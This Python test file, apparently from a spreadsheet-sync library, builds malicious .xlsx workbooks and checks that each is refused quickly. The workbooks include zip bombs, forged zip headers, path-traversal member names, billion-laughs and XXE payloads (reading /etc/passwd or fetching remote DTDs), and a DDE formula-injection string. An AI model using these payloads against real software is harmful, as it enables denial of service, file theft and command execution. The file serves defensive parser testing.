"""Files made to exhaust or to mislead whoever opens them are refused, in under a second and under 300 MB, by name.

Each is read in a process of its own, for memory can be measured no other way.
"""

import io
import json
import os
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import pytest
from hostile.world import new_book, refused

import tcsheets
from tcsheets.sync.base import compact
from tcsheets.sync.op import digest

SECONDS, MEGABYTES = 1.0, 300
BOOK = new_book([{"Case": "C-1", "Note": "called"}])
SHEET, STRINGS, MAIN = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"
BASE, STYLES, TABLE_PART = "xl/worksheets/sheet3.xml", "xl/styles.xml", "xl/tables/table1.xml"
RELATIONS = "xl/_rels/workbook.xml.rels"
MB = 1 << 20
SPACE = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def parts():
    with zipfile.ZipFile(io.BytesIO(BOOK)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


PARTS = parts()


def zipped(changes=(), *, more=(), method=zipfile.ZIP_DEFLATED):
    """Return the workbook with parts replaced, and members (name, content) added even where the name is there."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=1) as archive:
        for name, content in {**PARTS, **dict(changes)}.items():
            archive.writestr(name, content)
        for name, content in more:
            archive.writestr(name, content)
    return out.getvalue()


def directory_of(data):
    """Where the records of a zip's directory begin."""
    place, found = data.index(b"PK\x01\x02", struct.unpack_from("<L", data, data.rindex(b"PK\x05\x06") + 16)[0]), []
    while data[place : place + 4] == b"PK\x01\x02":
        found.append(place)
        place += 46 + sum(struct.unpack_from("<3H", data, place + 28))
    return found


def claimed(data, form, offset, value, which=slice(None)):
    """Return a zip whose directory says something else at an offset of its records."""
    changed = bytearray(data)
    for place in directory_of(data)[which]:
        struct.pack_into(form, changed, place + offset, value)
    return bytes(changed)


def ended(data, form, offset, value):
    """Return a zip whose end record says something else."""
    changed = bytearray(data)
    struct.pack_into(form, changed, data.rindex(b"PK\x05\x06") + offset, value)
    return bytes(changed)


def long_deflated(megabytes):
    """Return zeros, deflated: a thousandth of their size."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return b"".join([*(packer.compress(bytes(MB)) for _ in range(megabytes)), packer.flush()])


def quoted_members():
    """Return a zip in which each member's data holds the next member (overlapping quotes), all sharing one kernel."""
    kernel = long_deflated(20)
    out, records, count = io.BytesIO(), [], 200
    for number in range(count):
        offset, name = out.tell(), f"a{number:03d}".encode()
        head = (20, 0, 8, 0, 0x21, zlib.crc32(bytes(20 * MB)), len(kernel), 20 * MB, len(name))
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", *head, 0) + name)
        records.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, *head, 0, 0, 0, 0, 0, offset) + name)
    out.write(kernel)
    start = out.tell()
    out.write(b"".join(records))
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, out.tell() - start, start, 0))
    return out.getvalue()


def shared_kernel():
    """Return a zip whose records all name the same member."""
    data = zipped(more=[("kernel", bytes(7 * MB))])
    changed, records = bytearray(data), directory_of(data)
    for place in records[:-1]:
        changed[place + 42 : place + 46] = data[records[-1] + 42 : records[-1] + 46]
    return bytes(changed)


def liar(name=MAIN, size=100):
    data = zipped()
    place = next(each for each in directory_of(data) if data[each + 46 :].startswith(name.encode()))
    changed = bytearray(data)
    struct.pack_into("<L", changed, place + 24, size)
    return bytes(changed)


def nested():
    inner = zipped(more=[("big.bin", bytes(60 * MB))])
    for _ in range(3):
        inner = zipped(more=[("inner.zip", inner), ("big.bin", bytes(60 * MB))])
    return inner


def with_main(inside):
    return zipped({MAIN: PARTS[MAIN].replace(b"<sheets>", inside + b"<sheets>")})


def declared(text, part=MAIN):
    """Return the workbook with a declaration in front of a part."""
    head, _, rest = PARTS[part].partition(b"?>")
    return zipped({part: head + b"?>" + text + rest})


LAUGHS = (
    b'<!DOCTYPE z [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + place, b"&%c;" % (97 + place) * 10) for place in range(12))
    + b"]>"
)
QUADRATIC = b'<!DOCTYPE z [<!ENTITY a "' + b"x" * 60_000 + b'">]>'
EXTERNAL = b'<!DOCTYPE z [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
REMOTE = b'<!DOCTYPE z SYSTEM "http://198.51.100.7/a.dtd">'
PARAMETER = b'<!DOCTYPE z [<!ENTITY % p SYSTEM "http://198.51.100.7/p.dtd"> %p;]>'


def in_rows(text):
    """Return the workbook with other rows in the sheet of follow-ups."""
    head, _, rest = PARTS[SHEET].partition(b"<sheetData>")
    return zipped({SHEET: head + b"<sheetData>" + text + b"</sheetData>" + rest.partition(b"</sheetData>")[2]})


def in_row(text):
    return in_rows(b'<row r="2">' + text + b"</row>")


def strings(text):
    return zipped({STRINGS: b"<sst " + SPACE.encode() + b">" + text + b"</sst>"})


def with_table(old, new):
    assert old in PARTS[TABLE_PART]
    return zipped({TABLE_PART: PARTS[TABLE_PART].replace(old, new)})


def with_base(*texts):
    """Return the workbook with other texts in the base sheet's first column."""
    from xml.sax.saxutils import escape

    rows = "".join(
        f'<row r="{place}"><c r="A{place}" t="inlineStr"><is><t>{escape(text)}</t></is></c></row>'
        for place, text in enumerate(texts, 1)
    )
    return zipped({BASE: f"<worksheet {SPACE}><sheetData>{rows}</sheetData></worksheet>"})


def packed_base(content, **head):
    """Return the workbook with a packed base of any content."""
    import base64

    text = base64.b64encode(content if head.pop("raw", False) else zlib.compress(content)).decode()
    pieces = [text[place : place + 30_000] for place in range(0, len(text), 30_000)]
    said = {"tcsheets": "base", "format": 1, "pieces": len(pieces), "digest": digest(text)[:16], **head}
    return with_base(compact(said), *pieces)


def whole_base(**changes):
    from tcsheets.sync.base import Base, base_data

    return packed_base(json.dumps({**base_data(Base("b1")), **changes}).encode())


def utf16(text):
    return text.decode().encode("utf-16-le")


OPERATION = ["id1", "set", "follow_ups", "r1", "note", "", "x", "2026", "kim", "k.xlsx", 0, []]


def outbox(**changes):
    names = ["id", "kind", "list", "row", "field", "old", "new", "at", "actor", "workbook", "vector", "after"]
    made = [changes.get(name, value) for name, value in zip(names, OPERATION)]
    return lambda: whole_base(vectors=[[]], outbox=[made])


ZIPS = {
    "a ratio of a thousand": lambda: zipped(more=[("xl/media/a.bin", bytes(100 * MB))]),
    "a sheet of spaces": lambda: zipped({SHEET: PARTS[SHEET] + b" " * (60 * MB)}),
    "zips in zips": nested,
    "10,001 members": lambda: zipped(more=[(f"m{place}", b"") for place in range(10_001)], method=zipfile.ZIP_STORED),
    "60,000 records claimed": lambda: ended(zipped(), "<H", 10, 60_000),
    "four billion records claimed": lambda: ended(zipped(), "<H", 10, 0xFFFF),
    "a directory that begins beyond the end": lambda: ended(zipped(), "<L", 16, 0xFFFFFFF0),
    "a directory that begins at the start": lambda: ended(zipped(), "<L", 16, 0),
    "quoted members, overlapping": quoted_members,
    "records that share a member": shared_kernel,
    "every size claimed as 4 GB": lambda: claimed(zipped(), "<L", 24, 0xFFFFFFF0),
    "every packed size claimed as 2 GB": lambda: claimed(zipped(), "<L", 20, 0x7FFFFFFF),
    "sizes in a zip64 field that is not there": lambda: claimed(zipped(), "<L", 24, 0xFFFFFFFF),
    "an offset beyond the end": lambda: claimed(zipped(), "<L", 42, 0x7FFFFFFF),
    "a member larger than it says": liar,
    "a member smaller than it says": lambda: liar(size=100_000),
    "a wrong checksum": lambda: claimed(zipped(), "<L", 16, 1234),
    "a method that is not known": lambda: claimed(zipped(), "<H", 10, 99),
    "bzip2": lambda: zipped(method=zipfile.ZIP_BZIP2),
    "lzma": lambda: zipped(method=zipfile.ZIP_LZMA),
    "encrypted": lambda: claimed(zipped(), "<H", 8, 1),
    "names of 65,535 letters": lambda: claimed(zipped(), "<H", 28, 0xFFFF),
    "extra fields of 65,535 bytes": lambda: claimed(zipped(), "<H", 30, 0xFFFF),
    "../ in a name": lambda: zipped(more=[("../../evil.xml", b"<a/>")]),
    "an absolute name": lambda: zipped(more=[("/etc/cron.d/evil", b"x")]),
    "a drive in a name": lambda: zipped(more=[("C:/evil.xml", b"x")]),
    "a backslash in a name": lambda: zipped(more=[("xl\\..\\..\\evil", b"x")]),
    "a stream in a name": lambda: zipped(more=[("xl/a.xml:evil", b"x")]),
    "two members of one name": lambda: zipped(more=[(MAIN, PARTS[MAIN])]),
    "two members of one name in other case": lambda: zipped(more=[("XL/WORKBOOK.XML", PARTS[MAIN])]),
    "cut in half": lambda: zipped()[: len(zipped()) // 2],
    "cut by a byte": lambda: zipped()[:-23],
    "only the end record": lambda: zipped()[-22:],
    "not the letters PK": lambda: b"MZ" + zipped()[2:],
    "deflated rubbish": lambda: zipped().replace(zlib.compress(PARTS[MAIN], 1)[2:20], b"\xff" * 18),
}
DOCUMENTS = {
    "billion laughs": lambda: declared(LAUGHS),
    "billion laughs in the sheet": lambda: declared(LAUGHS, SHEET),
    "billion laughs in the strings": lambda: declared(LAUGHS, STRINGS),
    "billion laughs in UTF-16": lambda: zipped({MAIN: utf16(b"<?xml version='1.0'?>" + LAUGHS + b"<z>&m;</z>")}),
    "a long entity many times": lambda: declared(QUADRATIC),
    "an external entity": lambda: declared(EXTERNAL),
    "a remote document type": lambda: declared(REMOTE),
    "a parameter entity": lambda: declared(PARAMETER, RELATIONS),
    "an external entity in the styles": lambda: declared(EXTERNAL, STYLES),
    "a document type in a table": lambda: declared(REMOTE, TABLE_PART),
    "UTF-7": lambda: zipped({MAIN: PARTS[MAIN].replace(b"UTF-8", b"UTF-7")}),
    "UTF-16 without a mark": lambda: zipped({MAIN: utf16(PARTS[MAIN].replace(b"UTF-8", b"UTF-16"))}),
    "NULs": lambda: with_main(b"\0\0\0"),
    "not UTF-8": lambda: with_main(b"<a>\xff\xfe</a>"),
    "CDATA in the sheet": lambda: in_row(b'<c r="A2"><![CDATA[<f>1</f>]]></c>'),
    "a million elements, one in the other": lambda: with_main(b"<a>" * 1_000_000 + b"</a>" * 1_000_000),
    "30 MB of elements, one in the other": lambda: with_main(b"<a>" * 10_000_000),
    "a million sheets": lambda: zipped(
        {MAIN: PARTS[MAIN].replace(b"</sheets>", b'<sheet name="x" sheetId="9" r:id="rId1"/>' * 150_000 + b"</sheets>")}
    ),
    "a million names": lambda: with_main(b'<definedName name="a">A1</definedName>' * 200_000),
    "an attribute of 60 MB": lambda: with_main(b'<a b="' + b"x1 " * (20 * MB) + b'"/>'),
    "a million attributes": lambda: with_main(b"<a " + b" ".join(b'a%d="1"' % n for n in range(600_000)) + b"/>"),
    "a table without an area": lambda: with_table(b'ref="', b'rof="'),
    "a table in no cell": lambda: with_table(b'ref="A1', b'ref="Q'),
    "a table of the whole sheet": lambda: with_table(
        PARTS[TABLE_PART].split(b' ref="')[1].split(b'"')[0], b"A1:XFD1048576"
    ),
    "a table of ten million rows": lambda: with_table(b'ref="A1', b'ref="A9999999'),
    "a table of 800,000 rows": lambda: with_table(b'ref="A1', b'ref="A800000'),
    "a table part that is none": lambda: zipped({TABLE_PART: b"<a/>"}),
    "a formula before its column": lambda: with_table(
        b"<tableColumns", b"<calculatedColumnFormula>1</calculatedColumnFormula><tableColumns"
    ),
    "a name of a sheet that is none": lambda: with_main(
        b'<definedNames><definedName name="a" localSheetId="-9x">A1</definedName></definedNames>'
    ),
    "a sheet part that is not there": lambda: zipped({RELATIONS: PARTS[RELATIONS].replace(b"sheet1.xml", b"gone.xml")}),
    "a part that is its own sheet": lambda: zipped(
        {RELATIONS: PARTS[RELATIONS].replace(b"worksheets/sheet1.xml", b"workbook.xml")}
    ),
}
SHEETS = {
    "two million rows": lambda: in_rows(b"".join(b'<row r="%d"/>' % n for n in range(1, 2_000_000))),
    "two million rows without numbers": lambda: in_rows(b"<row/>" * 2_000_000),
    "the same row a million times": lambda: in_rows(b'<row r="1"/>' * 2_000_000),
    "a row number of 5,000 digits": lambda: in_rows(b'<row r="' + b"9" * 5_000 + b'"/>'),
    "a row beyond the last": lambda: in_rows(b'<row r="99999999"/>'),
    "a million rows without an end": lambda: in_rows(b"<row " * 1_000_000),
    "a million cells without an end": lambda: in_row(b"<c>" * 400_000),
    "a million tags of cells without an end": lambda: in_row(b"<c " * 400_000),
    "a million values without an end": lambda: in_row(b'<c r="A2"> ' + b"<v " * 400_000 + b"</c>"),
    "a million runs without an end": lambda: in_row(b'<c r="A2" t="inlineStr"><is>' + b"<t " * 400_000 + b"</is></c>"),
    "a million readings without an end": lambda: in_row(
        b'<c r="A2" t="inlineStr"><is><t>a</t>' + b"<rPh " * 300_000 + b"</is></c>"
    ),
    "a million formulas without an end": lambda: in_row(b'<c r="A2">' + b"<f " * 400_000 + b"</c>"),
    "a million comments without an end": lambda: in_rows(b"<!--" * 400_000),
    "a million columns without an end": lambda: zipped(
        {SHEET: PARTS[SHEET].replace(b"<sheetData>", b"<cols>" * 400_000 + b"<sheetData>")}
    ),
    "a column that is hidden to the end of the world": lambda: zipped(
        {
            SHEET: PARTS[SHEET].replace(
                b"<sheetData>", b'<cols><col min="1" max="999999999" hidden="1"/></cols><sheetData>'
            )
        }
    ),
    "a column from nowhere": lambda: zipped(
        {SHEET: PARTS[SHEET].replace(b"<sheetData>", b'<cols><col min="x" hidden="1"/></cols><sheetData>')}
    ),
    "a cell of a million letters": lambda: in_row(b'<c r="' + b"A" * 1_000_000 + b'2"><v>1</v></c><c><v>1</v></c>'),
    "a shared string of minus one": lambda: in_row(b'<c r="B2" t="s"><v>-1</v></c>'),
    "a shared string beyond the last": lambda: in_row(b'<c r="B2" t="s"><v>99999</v></c>'),
    "a shared string of 5,000 digits": lambda: in_row(b'<c r="B2" t="s"><v>' + b"9" * 5000 + b"</v></c>"),
    "a number that is none": lambda: in_row(b'<c r="B2"><v>1; DROP</v></c>'),
    "a number beyond all numbers": lambda: in_row(b'<c r="B2"><v>1e999</v></c>'),
    "a date beyond all dates": lambda: in_row(b'<c r="B2" t="d"><v>99999-99-99</v></c>'),
    "no number": lambda: in_row(b'<c r="B2"><v>nan</v></c><c r="E2"><v>inf</v></c><c r="F2"><v>-inf</v></c>'),
    "a kind that is not known": lambda: in_row(b'<c r="B2" t="zz"><v>1</v></c>'),
    "seven million cells": lambda: in_rows(b'<row r="2">' + b'<c r=""/>' * 6_100_000 + b"</row>"),
    "strings of 7 MB": lambda: strings(b"<si><t>" + b"\xf0\x9f\x98\x80" * (7 * MB // 4) + b"</t></si>"),
    "a million empty strings": lambda: strings(b"<si/>" * 1_600_000),
    "ten million empty strings": lambda: strings(b"<si/>" * 20_000_000),
    "a million strings without an end": lambda: strings(b"<si>" * 400_000),
    "a million tags of strings without an end": lambda: strings(b"<si " * 400_000),
    "a million runs in a string": lambda: strings(b"<si>" + b"<r><t>a</t></r>" * 400_000 + b"</si>"),
    "a million tags of styles without an end": lambda: zipped({STYLES: b"<styleSheet " + b"<xf " * 400_000}),
    "a style number that is none": lambda: zipped(
        {STYLES: PARTS[STYLES].replace(b"<cellXfs", b'<cellXfs><xf numFmtId="x"/></cellXfs><cellXfs')}
    ),
}
BASES = {
    "a base of 280 MB in 300 kB": lambda: packed_base(bytes(280 * MB)),
    "a base of 100 MB in 100 kB": lambda: packed_base(b" " * (100 * MB)),
    "a base of brackets in brackets": lambda: packed_base(b"[" * 2_000_000),
    "a base of objects in objects": lambda: packed_base(b'{"a":' * 500_000),
    "a head of brackets in brackets": lambda: with_base("[" * 30_000),
    "a head that is a list": lambda: with_base("[1]"),
    "a head with a format that is a word": lambda: with_base('{"tcsheets":"base","format":"x"}'),
    "a head of a newer format": lambda: with_base('{"tcsheets":"base","format":99}'),
    "a head with a number without end": lambda: with_base('{"tcsheets":"base","format":1,"pieces":1e999}'),
    "a head with a word for a number": lambda: with_base('{"tcsheets":"base","format":1,"pieces":"x"}'),
    "a head with a list for a number": lambda: with_base('{"tcsheets":"base","format":1,"pieces":[1]}'),
    "a digest that does not fit": lambda: packed_base(b"{}", digest="0" * 16),
    "a base cut short": lambda: packed_base(zlib.compress(b"{}" * 5000)[:-6], raw=True),
    "a base that is no base64": lambda: with_base(
        compact({"tcsheets": "base", "format": 1, "pieces": 1, "digest": digest("~")[:16]}), "~"
    ),
    "an empty base": lambda: packed_base(b"{}"),
    "a base of lists": lambda: packed_base(b"[]"),
    "lists that are a list": lambda: whole_base(lists=[1]),
    "rows that are a list": lambda: whole_base(lists={"follow_ups": {"columns": ["note"], "vector": [], "rows": [1]}}),
    "values that are numbers": lambda: whole_base(
        lists={"follow_ups": {"columns": ["note"], "vector": [], "rows": {"r": [5]}}}
    ),
    "a vector without end": lambda: whole_base(
        lists={"follow_ups": {"columns": [], "vector": [["w", 1e999, "h"]], "rows": {}}}
    ),
    "a vector that is a word": lambda: whole_base(lists={"follow_ups": {"columns": [], "vector": "abc", "rows": {}}}),
    "an outbox with a vector that is not there": outbox(vector=7),
    "an outbox with a vector that is a word": outbox(vector="x"),
    "an outbox with an unknown kind": outbox(kind="=cmd|'/c calc'!A1"),
    "an outbox with a formula for an id": outbox(id="=1+1"),
    "an outbox with a number for a text": outbox(new=5),
    "an outbox with a list for a text": outbox(actor=["x"]),
    "an outbox with half a character": outbox(new="\ud800"),
    "an outbox with a formula after": outbox(after=["=1+1", "a b"]),
    "an outbox with numbers after": outbox(after=[1]),
    "an outbox with too little": lambda: whole_base(vectors=[[]], outbox=[["id"]]),
    "a conflict with too much": lambda: whole_base(conflicts=[["x"] * 20]),
    "a store that is a list": lambda: whole_base(store=["x"]),
    "an alias that is an object": lambda: whole_base(alias={}),
    "an id that is a number": lambda: whole_base(id=5),
    "a replaced file that is a number": lambda: whole_base(replaced=[1, 2]),
}
# What names parts that are not there has no lists; sizes are checked, and one element may have many attributes.
MAY_BE_READ = {
    "a sheet part that is not there",
    "a part that is its own sheet",
    "UTF-16 without a mark",
}


def measured(data, folder):
    path = folder / "bomb.xlsx"
    path.write_bytes(data)
    command = [sys.executable, Path(__file__).with_name("measured.py"), path]
    environment = {**os.environ, "PYTHONPATH": str(Path(tcsheets.__file__).parent.parent)}
    done = subprocess.run(command, capture_output=True, text=True, timeout=20, check=False, env=environment)
    assert done.returncode == 0, done.stderr[-600:]
    return json.loads(done.stdout)


def survived(make, folder, *, may_be_read=False):
    found = measured(make(), folder)
    assert found["kind"] != "bug", found["message"]
    assert may_be_read or found["kind"] != "read"
    assert found["seconds"] < SECONDS
    assert found["mb"] < MEGABYTES
    if found["kind"] != "read":
        assert refused(found["message"]).startswith("bomb.xlsx: ")
    return found


def test_the_workbook_that_the_bombs_are_made_of_is_read(tmp_path):
    assert measured(zipped(), tmp_path)["kind"] == "read"
    assert measured(whole_base(), tmp_path)["kind"] == "read"
    assert measured(outbox()(), tmp_path)["kind"] == "read"


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("name", ZIPS)
def test_a_zip_that_would_do_harm_is_refused(tmp_path, name):
    survived(ZIPS[name], tmp_path)


@pytest.mark.parametrize("name", DOCUMENTS)
def test_xml_that_would_do_harm_is_refused(tmp_path, name):
    survived(DOCUMENTS[name], tmp_path, may_be_read=name in MAY_BE_READ)


@pytest.mark.parametrize("name", SHEETS)
def test_a_sheet_that_would_do_harm_is_refused_or_read_in_no_time(tmp_path, name):
    survived(SHEETS[name], tmp_path, may_be_read=True)


@pytest.mark.parametrize("name", BASES)
def test_a_memory_that_was_tampered_with_is_refused(tmp_path, name):
    survived(BASES[name], tmp_path)
